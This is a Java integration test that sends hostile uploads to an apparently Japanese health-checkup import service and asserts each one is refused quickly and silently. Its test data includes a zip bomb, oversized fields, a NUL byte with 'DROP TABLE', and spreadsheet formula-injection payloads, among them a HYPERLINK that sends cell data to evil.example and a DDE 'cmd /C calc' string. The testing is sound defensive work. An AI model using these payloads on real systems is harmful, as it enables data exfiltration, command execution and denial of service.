package jp.kenshin.outreach.attack;

import static jp.kenshin.outreach.TestFiles.MEMBERS_HEADER;
import static jp.kenshin.outreach.TestFiles.RESULTS_HEADER;
import static jp.kenshin.outreach.TestFiles.member;
import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.io.SequenceInputStream;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import jp.kenshin.outreach.FiscalYears;
import jp.kenshin.outreach.IntegrationTest;
import jp.kenshin.outreach.TestUsers;
import jp.kenshin.outreach.privacy.Requester;
import org.camunda.bpm.engine.IdentityService;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.jdbc.core.JdbcTemplate;

/**
 * Issue 11, item 7: bad input is refused early, naming the line and field and never echoing what was sent.
 * The attacker is a ward staff user (the imports are theirs) talking plain HTTP/1.1 to the server: the
 * uploads are streamed from a socket, so a server that read a whole 50 MB field before refusing it would
 * show in the time. Each refusal is checked for its status, a small body that names the place and not the
 * value, the database left as it was, and an answer within a second.
 */
@IntegrationTest
class BadInputAttackIT {

    private static final int FY = 2087;
    private static final long ONE_SECOND = Duration.ofSeconds(1).toNanos();
    private static final String USER = "badinputward";

    @LocalServerPort
    int port;
    @Autowired
    IdentityService identity;
    @Autowired
    JdbcTemplate jdbc;
    @Autowired
    FiscalYears fiscalYears;

    /** What the server answered, and how long it took from the first byte sent to the last byte of the answer. */
    record Answer(int status, String body, long nanos) {
    }

    @BeforeEach
    void signIn() throws IOException {
        TestUsers.ensure(identity, USER, Requester.WARD_STAFF);
        // the year's members are in (results are matched to them), through the same door, once
        if (jdbc.queryForObject("select count(*) from member where fiscal_year = ?", Long.class, FY) == 0) {
            Answer members = upload("/api/members/imports?fiscalYear=" + FY + "&encoding=UTF-8", "text/csv",
                    utf8(MEMBERS_HEADER + "\r\n" + member("100000001", "19600402", "1", "0312345678", "20200401", "") + "\r\n"));
            assertThat(members.body()).contains("\"status\":\"COMMITTED\"");
        }
        // warm the path once (the first request after start-up pays for class loading, not for the refusal)
        send("GET", "/api/imports/1", null, 0, null);
    }

    // ---- the calls, as an attacker with a socket makes them ----

    private Answer send(String method, String target, String contentType, long length, InputStream body) throws IOException {
        try (Socket socket = new Socket("127.0.0.1", port)) {
            socket.setSoTimeout(30_000);
            OutputStream out = socket.getOutputStream();
            StringBuilder head = new StringBuilder(method + " " + target + " HTTP/1.1\r\nHost: 127.0.0.1:" + port + "\r\n")
                    .append("Authorization: Basic ")
                    .append(Base64.getEncoder().encodeToString((USER + ":" + TestUsers.password(USER)).getBytes(StandardCharsets.UTF_8)))
                    .append("\r\nAccept: application/json, text/plain, */*\r\nConnection: close\r\n");
            if (body != null) {
                head.append("Content-Type: ").append(contentType).append("\r\nContent-Length: ").append(length).append("\r\n");
            } else if (method.equals("POST")) {
                head.append("Content-Length: 0\r\n");
            }
            head.append("\r\n");
            long start = System.nanoTime();
            out.write(head.toString().getBytes(StandardCharsets.US_ASCII));
            out.flush();
            Thread writer = null;
            if (body != null) {
                // the body goes out on a thread of its own, as fast as the server takes it; the answer may come first
                writer = new Thread(() -> {
                    byte[] buffer = new byte[64 * 1024];
                    try {
                        int n;
                        while ((n = body.read(buffer)) > 0) {
                            out.write(buffer, 0, n);
                        }
                        out.flush();
                    } catch (IOException e) {
                        // the server stopped reading and closed: expected for a refused upload
                    }
                }, "attacker-upload");
                writer.setDaemon(true);
                writer.start();
            }
            Answer answer = readAnswer(socket.getInputStream(), start);
            socket.close();
            if (writer != null) {
                writer.join(10_000);
            }
            return answer;
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
            throw new IllegalStateException(e);
        }
    }

    private static Answer readAnswer(InputStream in, long start) throws IOException {
        ByteArrayOutputStream headBytes = new ByteArrayOutputStream();
        int b;
        int matched = 0;
        while (matched < 4 && (b = in.read()) >= 0) {
            headBytes.write(b);
            matched = (b == '\r' && (matched == 0 || matched == 2)) || (b == '\n' && (matched == 1 || matched == 3)) ? matched + 1 : 0;
        }
        String head = headBytes.toString(StandardCharsets.ISO_8859_1);
        int status = Integer.parseInt(head.substring(9, 12));
        String lower = head.toLowerCase();
        ByteArrayOutputStream body = new ByteArrayOutputStream();
        int lengthAt = lower.indexOf("content-length:");
        if (lengthAt >= 0) {
            long length = Long.parseLong(lower.substring(lengthAt + 15, lower.indexOf('\r', lengthAt)).trim());
            body.write(in.readNBytes((int) length));
        } else if (lower.contains("transfer-encoding: chunked")) {
            while (true) {
                StringBuilder size = new StringBuilder();
                while ((b = in.read()) >= 0 && b != '\n') {
                    if (b != '\r') {
                        size.append((char) b);
                    }
                }
                int n = Integer.parseInt(size.toString().split(";")[0].trim(), 16);
                if (n == 0) {
                    break;
                }
                body.write(in.readNBytes(n));
                in.readNBytes(2);
            }
        } else {
            body.write(in.readAllBytes());
        }
        return new Answer(status, body.toString(StandardCharsets.UTF_8), System.nanoTime() - start);
    }

    private Answer upload(String target, String contentType, byte[] file) throws IOException {
        return send("POST", target, contentType, file.length, new ByteArrayInputStream(file));
    }

    private Answer get(String target) throws IOException {
        return send("GET", target, null, 0, null);
    }

    private static byte[] utf8(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    /** {@code count} copies of one character, made as they are read: the big values are never held whole. */
    private static InputStream repeated(byte[] unit, long count) {
        return new InputStream() {
            private long left = count * unit.length;
            private long position;

            @Override
            public int read() {
                if (left == 0) {
                    return -1;
                }
                left--;
                return unit[(int) (position++ % unit.length)] & 0xff;
            }

            @Override
            public int read(byte[] target, int offset, int length) {
                if (left == 0) {
                    return -1;
                }
                int n = (int) Math.min(length, left);
                for (int i = 0; i < n; i++) {
                    target[offset + i] = unit[(int) (position++ % unit.length)];
                }
                left -= n;
                return n;
            }
        };
    }

    private static InputStream concat(InputStream... parts) {
        InputStream all = parts[0];
        for (int i = 1; i < parts.length; i++) {
            all = new SequenceInputStream(all, parts[i]);
        }
        return all;
    }

    // ---- what must not change ----

    private record Counts(long members, long results, long imports, long issues) {
    }

    private Counts counts() {
        return new Counts(count("member"), count("checkup_result"), count("import_run"), count("import_issue"));
    }

    private long count(String table) {
        return jdbc.queryForObject("select count(*) from " + table, Long.class);
    }

    /** A refused import: nothing stored, one import record saying REFUSED with nothing accepted. */
    private void refusedImportLeftNothing(Counts before) {
        Counts after = counts();
        assertThat(after.members()).isEqualTo(before.members());
        assertThat(after.results()).isEqualTo(before.results());
        assertThat(after.imports()).isEqualTo(before.imports() + 1);
        Map<String, Object> run = jdbc.queryForMap("select status, rows_accepted, inserted from import_run order by id desc limit 1");
        assertThat(run).containsEntry("status", "REFUSED").containsEntry("rows_accepted", 0).containsEntry("inserted", 0);
    }

    /** The common shape of a refusal: quick, small, and silent about what was sent. */
    private static void quickSmallAndSilent(Answer answer, String... notEchoed) {
        assertThat(answer.nanos()).as("answered in %d ms", answer.nanos() / 1_000_000).isLessThan(ONE_SECOND);
        assertThat(answer.body().length()).isLessThan(4_000);
        for (String value : notEchoed) {
            assertThat(answer.body()).doesNotContain(value);
        }
    }

    // ---- the attacks ----

    @Test
    void aResultsValueOfAMillionDigitsIsRefusedAtOnceNamingLineAndColumn() throws IOException {
        Counts before = counts();
        String head = RESULTS_HEADER + "\r\n" + FY + ",100000001,,19600402,1," + FY + "0610,1310000001,";
        byte[] file = concat(new ByteArrayInputStream(utf8(head)), repeated(utf8("7"), 1_000_000),
                new ByteArrayInputStream(utf8(",65.2,22.5,80,120,78,110,55,120,95,5.6,1\r\n"))).readAllBytes();

        Answer answer = upload("/api/results/imports?fiscalYear=" + FY + "&encoding=UTF-8", "text/csv", file);

        assertThat(answer.status()).isEqualTo(200);
        assertThat(answer.body()).contains("\"status\":\"REFUSED\"", "2行目: ［身長］項目が長すぎます（1000文字まで）");
        quickSmallAndSilent(answer, "7777777777");
        refusedImportLeftNothing(before);
    }

    @Test
    void aNumberUnderTheFieldCapIsStillCheckedForItsDigitsBeforeAnythingParsesIt() throws IOException {
        Counts before = counts();
        String digits = "9".repeat(999);
        String file = RESULTS_HEADER + "\r\n"
                + FY + ",100000001,,19600402,1," + FY + "0610,1310000001," + digits + ",65.2,22.5,80,120,78,110,55,120,95,5.6,1\r\n"
                + FY + ",100000002,,19600402,1," + FY + "0610,1310000001,170.1,1E999999999,22.5,80,120,78,110,55,120,95,5.6,1\r\n";

        Answer answer = upload("/api/results/imports?fiscalYear=" + FY + "&encoding=UTF-8", "text/csv", utf8(file));

        assertThat(answer.status()).isEqualTo(200);
        assertThat(answer.body()).contains("\"status\":\"REFUSED\"", "\"rowsRejected\":2")
                .contains("{\"line\":2,\"document\":null,\"column\":\"身長\",\"severity\":\"REJECTED\",\"reason\":\"数値ではありません（整数5桁・小数3桁までの数字）\"}")
                .contains("{\"line\":3,\"document\":null,\"column\":\"体重\",\"severity\":\"REJECTED\",\"reason\":\"数値ではありません（整数5桁・小数3桁までの数字）\"}");
        quickSmallAndSilent(answer, "9999999999", "1E999999999");
        refusedImportLeftNothing(before);
    }

    @Test
    void aFiftyMegabyteFieldIsRefusedWhileItStreamsIn() throws IOException {
        Counts before = counts();
        byte[] head = utf8(MEMBERS_HEADER + "\r\n" + member("100000001", "19600402", "1", "", "20200401", "") + "\r\n"
                + "100000002,12-100000002,,");
        long fieldBytes = 50L * 1024 * 1024;
        byte[] tail = utf8(",試験 太郎,19600402,1,1700013,東京都豊島区東池袋一丁目1番1号,,,0,0,20200401,,99999,1\r\n");
        InputStream body = concat(new ByteArrayInputStream(head), repeated(utf8("ア"), fieldBytes / 3), new ByteArrayInputStream(tail));

        Answer answer = send("POST", "/api/members/imports?fiscalYear=" + FY + "&encoding=UTF-8", "text/csv",
                head.length + fieldBytes / 3 * 3 + tail.length, body);

        assertThat(answer.status()).isEqualTo(200);
        assertThat(answer.body()).contains("\"status\":\"REFUSED\"", "3行目: ［カナ氏名］項目が長すぎます（1000文字まで）");
        quickSmallAndSilent(answer, "アアアアアアアアアア");
        refusedImportLeftNothing(before);
    }

    @Test
    void aFiftyMegabyteColumnNameIsRefusedAndNotSentBack() throws IOException {
        Counts before = counts();
        byte[] head = utf8(MEMBERS_HEADER + ",=HYPERLINK(\"http://evil.example/\"");
        long nameBytes = 50L * 1024 * 1024;
        byte[] tail = utf8("\r\n" + member("100000001", "19600402", "1", "", "20200401", "") + ",x\r\n");
        InputStream body = concat(new ByteArrayInputStream(head), repeated(utf8("x"), nameBytes), new ByteArrayInputStream(tail));

        Answer answer = send("POST", "/api/members/imports?fiscalYear=" + FY + "&encoding=UTF-8", "text/csv",
                head.length + nameBytes + tail.length, body);

        assertThat(answer.status()).isEqualTo(200);
        assertThat(answer.body()).contains("\"status\":\"REFUSED\"", "1行目: 18列目の列名が長すぎます（100文字まで）");
        quickSmallAndSilent(answer, "xxxxxxxxxx", "HYPERLINK");
        refusedImportLeftNothing(before);
    }

    @Test
    void aHundredThousandColumnsAreRefusedAtTheTwoHundredAndFirst() throws IOException {
        Counts before = counts();
        StringBuilder header = new StringBuilder(MEMBERS_HEADER);
        for (int i = 0; i < 100_000; i++) {
            header.append(",c").append(i);
        }
        byte[] file = utf8(header + "\r\n" + member("100000001", "19600402", "1", "", "20200401", "") + "\r\n");

        Answer answer = upload("/api/members/imports?fiscalYear=" + FY + "&encoding=UTF-8", "text/csv", file);

        assertThat(answer.status()).isEqualTo(200);
        assertThat(answer.body()).contains("\"status\":\"REFUSED\"", "1行目: 列が多すぎます（200列まで）");
        quickSmallAndSilent(answer, "c199", "c99999");
        refusedImportLeftNothing(before);
    }

    @Test
    void aNulByteIsRefusedNamingLineAndColumn() throws IOException {
        Counts before = counts();
        String file = MEMBERS_HEADER + "\r\n" + member("100000001", "19600402", "1", "", "20200401", "") + "\r\n"
                + member("100000002", "19600402", "1", "", "20200401", "").replace("試験 太郎", "試験\u0000DROP TABLE member") + "\r\n";

        Answer answer = upload("/api/members/imports?fiscalYear=" + FY + "&encoding=UTF-8", "text/csv", utf8(file));

        assertThat(answer.status()).isEqualTo(200);
        assertThat(answer.body()).contains("\"status\":\"REFUSED\"", "3行目: ［漢字氏名］制御文字（NULなど）が含まれています");
        quickSmallAndSilent(answer, "DROP TABLE");
        refusedImportLeftNothing(before);
    }

    @Test
    void anUnbalancedQuoteIsNamedByItsLine() throws IOException {
        Counts before = counts();
        String file = MEMBERS_HEADER + "\r\n" + member("100000001", "19600402", "1", "", "20200401", "") + "\r\n"
                + member("100000002", "19600402", "1", "", "20200401", "").replace("試験 太郎", "\"試験 次郎") + "\r\n"
                + member("100000003", "19600402", "1", "", "20200401", "") + "\r\n";

        Answer answer = upload("/api/members/imports?fiscalYear=" + FY + "&encoding=UTF-8", "text/csv", utf8(file));

        assertThat(answer.status()).isEqualTo(200);
        assertThat(answer.body()).contains("\"status\":\"REFUSED\"", "3行目: 引用符（\\\"）が閉じられていません")
                .doesNotContain("UncheckedIOException", "FAILED");
        quickSmallAndSilent(answer, "試験 次郎");
        refusedImportLeftNothing(before);
    }

    @Test
    void aZipWhoseEntryExpandsAThousandToOneIsRefusedBeforeItIsUnpacked() throws IOException {
        Counts before = counts();
        ByteArrayOutputStream archive = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(archive)) {
            zip.putNextEntry(new ZipEntry("1310000001_13100000_" + FY + "06011_1/DATA/h1310000001" + FY + "0610000001.xml"));
            byte[] blanks = new byte[1024 * 1024];
            java.util.Arrays.fill(blanks, (byte) ' ');
            for (int i = 0; i < 3; i++) {
                zip.write(blanks); // 3 MB of blanks: under the 4 MB entry cap, but packed 1000:1
            }
            zip.closeEntry();
        }
        assertThat(archive.size()).isLessThan(3 * 1024 * 1024 / 500);

        Answer answer = upload("/api/results/xml-imports?fiscalYear=" + FY, "application/zip", archive.toByteArray());

        assertThat(answer.status()).isEqualTo(200);
        assertThat(answer.body()).contains("\"status\":\"REFUSED\"", "1 番目のファイル", "の圧縮率が高すぎます（展開後が圧縮時の 100 倍まで）");
        quickSmallAndSilent(answer);
        refusedImportLeftNothing(before);
    }

    @Test
    void implausibleFiscalYearsAreRefusedWith400NamingTheField() throws IOException {
        Counts before = counts();
        byte[] file = utf8(MEMBERS_HEADER + "\r\n" + member("100000001", "19600402", "1", "", "20200401", "") + "\r\n");
        for (String year : List.of("-1", "99999")) {
            List<Answer> answers = List.of(
                    upload("/api/members/imports?fiscalYear=" + year + "&encoding=UTF-8", "text/csv", file),
                    upload("/api/results/imports?fiscalYear=" + year + "&encoding=UTF-8", "text/csv", utf8(RESULTS_HEADER + "\r\n")),
                    upload("/api/results/xml-imports?fiscalYear=" + year, "application/zip", new byte[] {'P', 'K', 3, 4}),
                    get("/api/cycles/" + year),
                    get("/api/mailings/" + year),
                    get("/api/contracts/" + year),
                    get("/api/designations?fiscalYear=" + year),
                    get("/api/reports/" + year + "/calls"),
                    get("/api/analyses?fiscalYear=" + year),
                    get("/api/deletions/" + year + "/certificate.pdf"),
                    upload("/api/selections", "application/json", utf8("{\"fiscalYear\":" + year + ",\"referenceDate\":\"2087-04-01\"}")),
                    upload("/api/cycles", "application/json", utf8("{\"fiscalYear\":" + year + ",\"referenceDate\":\"2087-04-01\"}")),
                    upload("/api/analyses", "application/json", utf8("{\"fiscalYear\":" + year + ",\"cutOff\":\"2088-06-30\"}")));
            for (Answer answer : answers) {
                assertThat(answer.status()).as(answer.body()).isEqualTo(400);
                assertThat(answer.body()).contains("年度（fiscalYear）は " + fiscalYears.earliest() + "〜" + fiscalYears.latest()
                        + " の西暦の整数で指定してください");
                quickSmallAndSilent(answer, year);
            }
        }
        assertThat(counts()).isEqualTo(before);
    }

    @Test
    void unknownIdsAnswer404NamingTheIdInJapanese() throws IOException {
        Counts before = counts();
        Map<String, String> paths = new java.util.LinkedHashMap<>();
        paths.put("/api/imports/987654321", "取込 987654321 はありません");
        paths.put("/api/imports/987654321/report.txt", "取込 987654321 はありません");
        paths.put("/api/imports/987654321/issues", "取込 987654321 はありません");
        paths.put("/api/selections/987654321", "対象者選定 987654321 はありません");
        paths.put("/api/selections/987654321/targets", "対象者選定 987654321 はありません");
        paths.put("/api/incidents/987654321", "事故 987654321 はありません");
        paths.put("/api/incidents/987654321/public-summary", "事故 987654321 はありません");
        paths.put("/api/report-requests/987654321", "報告の求め 987654321 はありません");
        paths.put("/api/site-audits/987654321", "実地監査 987654321 はありません");
        paths.put("/api/analyses/987654321", "分析 987654321 はありません");
        paths.put("/api/analyses/987654321/figures.csv", "分析 987654321 はありません");
        paths.put("/api/analyses/987654321/figures.xlsx", "分析 987654321 はありません");
        paths.put("/api/analyses/987654321/report.pdf", "分析 987654321 はありません");
        paths.put("/api/inquiries/Q-987654321", "問い合わせ Q-987654321 はありません");
        paths.put("/api/cycles/2099", "2099 年度の事業（年間サイクル）はありません");
        paths.put("/api/deletions/2099/certificate.pdf", "2099 年度の消去証明書はありません");
        for (Map.Entry<String, String> path : paths.entrySet()) {
            Answer answer = get(path.getKey());
            assertThat(answer.status()).as(path.getKey() + " " + answer.body()).isEqualTo(404);
            assertThat(answer.body()).as(path.getKey()).contains(path.getValue());
            quickSmallAndSilent(answer);
        }
        Answer returned = send("POST", "/api/mailings/2099/returned/M2099-9876543", null, 0, null);
        assertThat(returned.status()).as(returned.body()).isEqualTo(404);
        assertThat(returned.body()).contains("お知らせ番号 M2099-9876543 は 2099 年度の郵送にありません");
        // a number of another shape (it may be a ticket number) is refused without being repeated
        Answer misshapen = send("POST", "/api/mailings/2099/returned/M987654321", null, 0, null);
        assertThat(misshapen.status()).as(misshapen.body()).isEqualTo(400);
        assertThat(misshapen.body()).contains("お知らせ番号の形が正しくありません").doesNotContain("987654321");
        // an id that is no id is not repeated
        Answer odd = get("/api/inquiries/%3Cscript%3E%E5%B1%B1%E7%94%B0");
        assertThat(odd.status()).isEqualTo(404);
        assertThat(odd.body()).contains("問い合わせ （形式の正しくない番号） はありません").doesNotContain("script", "山田");
        assertThat(counts()).isEqualTo(before);
    }

    @Test
    void aNameThatIsAFormulaIsRefusedAsNotAName() throws IOException {
        Counts before = counts();
        String file = MEMBERS_HEADER + "\r\n"
                + member("100000001", "19600402", "1", "", "20200401", "") + "\r\n"
                + member("100000002", "19600402", "1", "", "20200401", "")
                        .replace("試験 太郎", "=HYPERLINK(\"http://evil.example/?\"&A1;\"詳細\")") + "\r\n"
                + member("100000003", "19600402", "1", "", "20200401", "")
                        .replace("東京都豊島区東池袋一丁目1番1号", "@SUM(1+1)*cmd|' /C calc'!A0") + "\r\n"
                + member("100000004", "19600402", "1", "", "20200401", "").replace("テスト タロウ", "+テスト") + "\r\n"
                + member("100000005", "19600402", "1", "0312345678", "20200401", "").replace("1号,,0312", "1号,-1+1,0312") + "\r\n"
                // a room number split off the address is a number to a spreadsheet, and is kept
                + member("100000006", "19600402", "1", "0312345678", "20200401", "").replace("1号,,0312", "1号,-101,0312") + "\r\n";

        Answer answer = upload("/api/members/imports?fiscalYear=" + FY + "&encoding=UTF-8", "text/csv", utf8(file));

        assertThat(answer.status()).isEqualTo(200);
        assertThat(answer.body()).contains("\"status\":\"REFUSED\"", "\"rowsRejected\":4", "\"rowsRead\":6")
                .contains("{\"line\":3,\"document\":null,\"column\":\"漢字氏名\",\"severity\":\"REJECTED\",\"reason\":\"氏名・住所として使えない文字")
                .contains("{\"line\":4,\"document\":null,\"column\":\"漢字住所\",\"severity\":\"REJECTED\",\"reason\":\"氏名・住所として使えない文字")
                .contains("{\"line\":5,\"document\":null,\"column\":\"カナ氏名\",\"severity\":\"REJECTED\",\"reason\":\"氏名・住所として使えない文字")
                .contains("{\"line\":6,\"document\":null,\"column\":\"漢字方書\",\"severity\":\"REJECTED\",\"reason\":\"氏名・住所として使えない文字")
                .doesNotContain("\"line\":7,");
        quickSmallAndSilent(answer, "HYPERLINK", "evil.example", "SUM(", "calc");
        refusedImportLeftNothing(before);
    }

    @Test
    void aLongFileNameOrAnUnknownEncodingIsNotSentBackWhole() throws IOException {
        Counts before = counts();
        byte[] file = utf8(MEMBERS_HEADER + "\r\n" + member("100000001", "19600402", "1", "", "20200401", "") + "\r\n");
        String encoding = "X-" + "Q".repeat(3000);
        Answer badEncoding = upload("/api/members/imports?fiscalYear=" + FY + "&encoding=" + encoding, "text/csv", file);
        assertThat(badEncoding.status()).isEqualTo(200);
        assertThat(badEncoding.body()).contains("\"status\":\"REFUSED\"", "文字コード（encoding）が扱えません");
        quickSmallAndSilent(badEncoding, "QQQQQQQQQQ");
        refusedImportLeftNothing(before);

        String fileName = "=HYPERLINK(" + "n".repeat(3000) + ").csv";
        Answer named = upload("/api/members/imports?fiscalYear=" + FY + "&encoding=UTF-8&fileName="
                + java.net.URLEncoder.encode(fileName, StandardCharsets.UTF_8), "text/csv", utf8(MEMBERS_HEADER + "\r\n"
                + member("100000009", "19600402", "1", "", "20200401", "").replace("試験 太郎", "@試験") + "\r\n"));
        assertThat(named.body()).contains("\"fileName\":\"=HYPERLINK(nnn");
        quickSmallAndSilent(named, "n".repeat(200));
    }
}
